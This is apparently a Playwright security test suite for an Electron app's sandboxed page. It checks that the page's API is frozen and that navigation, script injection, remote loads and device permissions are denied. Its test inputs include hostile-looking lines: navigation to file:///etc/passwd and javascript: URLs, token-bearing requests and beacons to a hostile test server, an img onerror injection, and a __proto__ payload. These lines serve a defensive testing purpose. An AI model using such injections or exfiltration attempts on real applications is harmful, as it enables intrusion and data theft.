import type { Page } from 'playwright';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import { operationNames } from '#contract/channels.ts';
import type { HostileServer } from '../../support/hostile-server.ts';
import type { LaunchedApp } from '../../support/launch-app.ts';
import { launchBesideHostileServer, type Besieged } from '../../support/shell-fixture/launch-beside-hostile-server.ts';

let besieged: Besieged;
let app: LaunchedApp;
let elsewhere: HostileServer;
let page: Page;

beforeAll(async () => {
  besieged = await launchBesideHostileServer();
  ({ app, elsewhere } = besieged);
  page = app.page;
});
afterAll(() => besieged.end());

/** Long enough for a page to have gone somewhere, if it could. */
async function whatHappens(): Promise<{ address: string; heading: string | null; requests: readonly string[] }> {
  await page.waitForTimeout(300);
  return { address: page.url(), heading: await page.textContent('h1'), requests: [...elsewhere.requests] };
}
let unmoved: Awaited<ReturnType<typeof whatHappens>>;
beforeEach(() => {
  unmoved = { address: page.url(), heading: 'Fixture', requests: [] };
});

describe('what the page can see (A1)', () => {
  it('is the frozen API, with one function for each operation', async () => {
    const seen = await page.evaluate(() => {
      const { coffer } = window as unknown as { coffer: { call: object } };
      const descriptor = Object.getOwnPropertyDescriptor(window, 'coffer');
      return {
        members: Object.keys(coffer),
        operations: Object.keys(coffer.call),
        isFrozen: Object.isFrozen(coffer) && Object.isFrozen(coffer.call),
        isReplaceable: descriptor?.writable === true || descriptor?.configurable === true,
      };
    });

    expect(seen).toEqual({ members: ['call', 'on'], operations: [...operationNames], isFrozen: true, isReplaceable: false });
  });

  it('is nothing of Node, Electron or the host', async () => {
    const seen = await page.evaluate(() => {
      const names = [
        'require',
        'module',
        'exports',
        'process',
        'Buffer',
        'global',
        'ipcRenderer',
        'electron',
        'sendToMain',
        'receiveFromMain',
      ];
      return names.filter((name) => name in window);
    });

    expect(seen).toEqual([]);
  });

  it('was there before the first script of the page', async () => {
    expect(await page.evaluate(() => (window as unknown as { startedWith: string }).startedWith)).toBe('object');
  });
});

describe('calls and events', () => {
  it('a call is answered', async () => {
    const outcome = await page.evaluate(
      "coffer.call['app.state']({}).then(JSON.parse).then(({ value }) => [value.version, value.host])",
    );

    expect(outcome).toEqual(['0.1.0', expect.stringContaining(app.host)]);
  });

  it.each([
    ['cyclic data', '(() => { const a = {}; a.a = a; return a; })()'],
    ['a BigInt', '1n'],
    ['a Map', 'new Map([[1, 2]])'],
    ['ten megabytes', '"x".repeat(10_000_000)'],
    ['a name that would change the prototype', 'JSON.parse(`{"__proto__":{"a":1}}`)'],
    ['a function', '() => 1'],
  ])('%s is turned away without a word about main (A2)', async (_what, input) => {
    const outcome = await page.evaluate(
      `(async () => coffer.call['app.state'](${input}))().then(JSON.parse).then(({ ok, failure }) => (ok ? 'passed' : failure.kind), (error) => error.message)`,
    );

    expect(outcome).toMatch(/^invalid-input$|could not be cloned/);
  });

  it('a defect of a handler comes as a reference, without its words', async () => {
    const answer = await page.evaluate("coffer.call['accounts.list']({})");

    expect([answer, String(answer).includes('canary')]).toEqual([expect.stringContaining('"reference":"reference-1"'), false]);
  });

  it('an event is heard until the page stops to listen', async () => {
    const heard = await page.evaluate(async () => {
      const { coffer } = window as unknown as {
        coffer: {
          call: Record<string, (input: object) => Promise<unknown>>;
          on: (name: string, listener: (payload: unknown) => void) => () => void;
        };
      };
      const payloads: unknown[] = [];
      const stop = coffer.on('ledger.changed', (payload) => payloads.push(payload));
      let heardByAnother = (): void => undefined;
      coffer.on('ledger.changed', () => heardByAnother());
      const callAndHear = (): Promise<unknown> =>
        Promise.all([new Promise<void>((resolve) => (heardByAnother = resolve)), coffer.call['connections.list']?.({})]);
      await callAndHear();
      stop();
      await callAndHear();
      return payloads;
    });

    expect(heard).toEqual([{}]);
  });

  it('a page that never stops to listen is capped (A9)', async () => {
    const result = await page.evaluate(
      `(() => { let count = 0; try { for (; count < 10_000; count++) coffer.on('app.changed', () => {}); } catch (error) { return [count, error.message]; } return count; })()`,
    );

    expect(result).toEqual([200, expect.stringContaining('Too many listeners')]);
  });

  const nextChoice = "window.chosen = new Promise((resolve) => coffer.on('menu.chosen', ({ item }) => resolve(item))), 0";

  it("the menu's choices reach the page", async () => {
    await page.evaluate(nextChoice);
    await app.chooseMenuItem('Settings…');

    expect(await page.evaluate('window.chosen')).toBe('settings');
  });

  it('and so do its keys', async () => {
    await page.evaluate(nextChoice);
    await page.keyboard.press('ControlOrMeta+e');

    expect(await page.evaluate('window.chosen')).toBe('export');
  });
});

describe('where the page can go (B1, B2)', () => {
  it.each([
    ['an address', (url: string) => `location.href = '${url}/?token=1'`],
    [
      'a form',
      (url: string) =>
        `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="${url}"></form>'), f.submit()`,
    ],
    [
      'a refresh',
      (url: string) => `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=${url}">')`,
    ],
    ['a link', (url: string) => `document.body.insertAdjacentHTML('beforeend', '<a id=a href="${url}">x</a>'), a.click()`],
    ['a file', () => `location.href = 'file:///etc/passwd'`],
    ['a script address', () => `location.href = 'javascript:document.body.replaceChildren()'`],
    ['a data address', () => `location.href = 'data:text/html,<h1>elsewhere</h1>'`],
    ['another page of its own', () => `location.href = '/other.html'`],
  ])('nowhere by %s', async (_how, script) => {
    await page.evaluate(`void (${script(elsewhere.url)})`);

    expect(await whatHappens()).toEqual(unmoved);
  });

  it.each(['http:', 'https:'])('no window opens: %s', async (protocol) => {
    const pages = page.context().pages().length;
    await page.evaluate((url) => void window.open(url), elsewhere.url.replace('http:', protocol));

    expect([await whatHappens(), await app.openedExternally()]).toEqual([unmoved, []]);
    // The host closes what it denies a moment after Chromium has opened it.
    await expect.poll(() => page.context().pages().length, { timeout: 60_000 }).toBe(pages);
  });

  it('the log says where it wanted to go, without path and query', async () => {
    await page.evaluate((url) => void (location.href = `${url}/secret-path?token=1`), elsewhere.url);
    await whatHappens();

    expect([app.output().includes(elsewhere.url), /secret-path|token=1/.test(app.output())]).toEqual([true, false]);
  });
});

describe('what the page can load (B4)', () => {
  it.each([
    [
      'an inline script',
      `document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }))`,
    ],
    ['an inline handler', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hacked = 1">')`],
    ['a remote script', `document.head.append(Object.assign(document.createElement('script'), { src: URL_ + '/x.js' }))`],
    ['a remote image', `document.body.append(Object.assign(new Image(), { src: URL_ + '/x.png' }))`],
    ['a frame', `document.body.append(Object.assign(document.createElement('iframe'), { src: URL_ }))`],
    ['an object', `document.body.append(Object.assign(document.createElement('object'), { data: URL_ }))`],
    ['another base', `document.head.append(Object.assign(document.createElement('base'), { href: URL_ }))`],
    ['a request', `fetch(URL_).catch(() => {})`],
    ['a socket', `new WebSocket(URL_.replace('http', 'ws'))`],
    ['a beacon', `navigator.sendBeacon(URL_, 'x')`],
    ['a font', `new FontFace('x', 'url(' + URL_ + '/x.woff2)').load().catch(() => {})`],
  ])('not %s', async (_what, script) => {
    await page.evaluate(`try { (${script.replaceAll('URL_', JSON.stringify(elsewhere.url))}) } catch {}; 0`);

    const after = await whatHappens();
    expect([after.requests, await page.evaluate('window.hacked')]).toEqual([[], undefined]);
  });

  it('no text as code', async () => {
    // As a script of the page would: Playwright's own evaluation is above the policy.
    const violation = await page.evaluate(
      `new Promise((resolve) => { addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), { once: true }); setTimeout('window.hacked = 1', 0); setTimeout(() => resolve('none'), 1000); })`,
    );

    expect([violation, await page.evaluate('window.hacked')]).toEqual(['script-src', undefined]);
  });

  it('a webview is an unknown element', async () => {
    const attached = await page.evaluate((url) => {
      const webview = Object.assign(document.createElement('webview'), { src: url });
      document.body.append(webview);
      return 'loadURL' in webview;
    }, elsewhere.url);

    expect([attached, (await whatHappens()).requests]).toEqual([false, []]);
  });
});

describe('what the page may use (B6)', () => {
  it.each(['camera', 'microphone', 'geolocation', 'notifications', 'clipboard-read', 'midi'])('not %s', async (name) => {
    const state = await page.evaluate(
      async (wanted) => (await navigator.permissions.query({ name: wanted as PermissionName })).state,
      name,
    );

    expect(state).toBe('denied');
  });

  it('but the clipboard, to put plain text on it', async () => {
    const written = await page.evaluate(
      `navigator.permissions.query({ name: 'clipboard-write' }).then(async ({ state }) => [state, await navigator.clipboard.writeText('0042').then(() => 'written', () => 'refused')])`,
    );

    expect(written).toEqual(['granted', 'written']);
  });
});

describe('what leaves the app', () => {
  it('help opens fixed addresses; the page can name a topic only', async () => {
    const outcomes = await page.evaluate(
      `Promise.all(['plaid-status', 'https://evil.example/', 'https://plaid.com.evil/'].map((topic) => coffer.call['app.openHelp']({ topic }))).then((all) => all.map((text) => JSON.parse(text).ok))`,
    );

    expect([outcomes, await app.openedExternally()]).toEqual([[true, false, false], ['https://status.plaid.com/']]);
  });

  it('a file is saved where the user says, or nowhere', async () => {
    const save = () =>
      page.evaluate("coffer.call['export.transactions']({ filter: {}, options: {} }).then((text) => JSON.parse(text).value)");
    await app.answerSaveDialog('/tmp/chosen.csv');
    await app.answerSaveDialog(null);

    expect([await save(), await save()]).toEqual([
      { kind: 'saved', fileName: '/tmp/chosen.csv', rows: 0 },
      { kind: 'cancelled' },
    ]);
  });
});
